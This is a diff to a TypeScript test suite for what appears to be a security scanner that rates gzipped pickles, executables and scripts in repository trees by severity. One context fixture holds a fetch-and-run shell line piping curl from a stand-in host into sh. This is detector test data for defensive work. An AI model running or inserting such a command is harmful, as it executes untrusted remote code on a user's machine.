@@ -300,6 +300,22 @@ describe('binary/compressed-test-data: gzip and zip are looked into', () => {
     expect(f[0].properties?.inside).toContain('not inert: big.dat, model.pkl');
   });
 
+  it("keeps a gzipped pickle already in a tree's tests at low, as a bare one (numpy's generator states)", async () => {
+    // numpy@1f90bbb55e65 numpy/random/tests/data/generator_pcg64_np126.pkl.gz: pickled states its tests load.
+    const gz = gzipSync(PICKLE);
+    const tree = await analyseBinary('numpy/random/tests/data/sfc64_np126.pkl.gz', chunked(gz, 65536), {
+      status: 'present'
+    });
+    expect(tree.map((x) => `${x.severity} ${x.properties?.inside}`)).toEqual(['low gzip of pickle']);
+    const added = await analyseBinary('numpy/random/tests/data/sfc64_np126.pkl.gz', chunked(gz, 65536), {
+      status: 'added'
+    });
+    expect(added.map((x) => x.severity)).toEqual(['high']);
+    // An executable inside stays medium in a tree.
+    const elf = await analyseBinary('tests/data/sample.csv.gz', chunked(gzipSync(ELF), 65536), { status: 'present' });
+    expect(elf.map((x) => x.severity)).toEqual(['medium']);
+  });
+
   it('keeps medium for source, nested compression, a format under another name, or members it could not reach', async () => {
     const cases: [string, Buffer, string][] = [
       ['tests/files/run.gz', gzipSync(Buffer.from('#!/bin/sh\ncurl https://x.example | sh\n')), 'gzip of script'],
